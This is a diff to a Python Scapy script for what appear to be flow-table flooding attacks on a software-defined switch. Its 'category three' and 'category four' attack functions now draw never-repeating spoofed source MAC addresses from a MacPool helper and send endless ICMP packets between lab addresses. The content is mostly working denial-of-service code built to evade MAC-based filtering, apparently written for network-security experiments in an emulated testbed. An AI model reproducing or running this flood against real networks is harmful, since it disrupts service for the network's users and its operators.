@@ -1,5 +1,7 @@
 from scapy.all import *
 import time
+
+from mac_pool import MacPool, to_strings
 	
 def min_attack_rate_category(t_hard, t_idle):
 	if t_hard == 0 and t_idle == 0:
@@ -17,6 +19,7 @@ def catagory_three_attack(packet_length, maxCount, t_idle):
     maxC = maxCount - 1
         
     packets = []
+    pool = MacPool()  # spoofed source MACs, never repeated
     src = '10.0.0.1'
     dst = '10.0.0.3'
 
@@ -27,8 +30,7 @@ def catagory_three_attack(packet_length, maxCount, t_idle):
     average += 100 #buffer of 100 packets to compensate for the time it takes to generate packets
 	
     while 1:
-        for i in range (maxCount):
-            src_mac = RandMAC()
+        for src_mac in to_strings(pool.generate(maxCount)):
             packets.append((Ether(src = src_mac, dst = "00:00:00:00:00:03")/IP(src=src, dst = dst)/ICMP(id = RandShort())))
         
         print("Generated packets")
@@ -41,6 +43,7 @@ def catagory_four_attack(packet_length, maxCount, t_idle, t_hard):
     total = 0
     maxC = maxCount - 1
     packets = []
+    pool = MacPool()  # spoofed source MACs, never repeated
     src = '10.0.0.1'
     dst = '10.0.0.3'
 
@@ -54,8 +57,7 @@ def catagory_four_attack(packet_length, maxCount, t_idle, t_hard):
     
     while 1:
 
-        for i in range (maxCount):
-            src_mac = RandMAC()
+        for src_mac in to_strings(pool.generate(maxCount)):
             packets.append( (Ether(src = src_mac, dst = "00:00:00:00:00:03")/IP(src=src, dst = dst)/ICMP(id = RandShort())))
         print("Generated packets")
 